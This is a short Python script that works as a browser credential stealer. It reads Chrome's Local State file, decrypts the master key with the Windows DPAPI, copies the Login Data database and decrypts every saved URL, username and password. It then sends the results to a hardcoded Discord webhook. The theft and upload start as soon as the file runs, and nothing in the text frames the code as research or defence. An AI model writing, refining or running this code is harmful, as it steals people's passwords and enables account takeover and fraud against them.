import os, json, base64, sqlite3, shutil
import win32crypt
from Crypto.Cipher import AES
import requests

def key():
    local_state = os.path.join(os.environ["USERPROFILE"], "AppData", "Local", "Google", "Chrome", "User Data", "Local State")
    k = json.loads(open(local_state, encoding="utf-8").read())["os_crypt"]["encrypted_key"]
    return win32crypt.CryptUnprotectData(base64.b64decode(k)[5:], None, None, None, 0)[1]

def grab():
    db = os.path.join(os.environ["USERPROFILE"], "AppData", "Local", "Google", "Chrome", "User Data", "default", "Login Data")
    shutil.copyfile(db, "Loginvault.db")
    cur = sqlite3.connect("Loginvault.db").cursor()
    cur.execute("SELECT action_url, username_value, password_value FROM logins")
    out = []
    for url, user, pw in cur.fetchall():
        iv, payload = pw[3:15], pw[15:]
        out.append((url, user, AES.new(key(), AES.MODE_GCM, iv).decrypt(payload)[:-16].decode()))
    requests.post("https://discord.com/api/webhooks/1055538392417357864/q8Kw3nZpYx0aB1cD2eF3gH4iJ5kL6mN7oP8qR9sT", json={"content": str(out)})

grab()
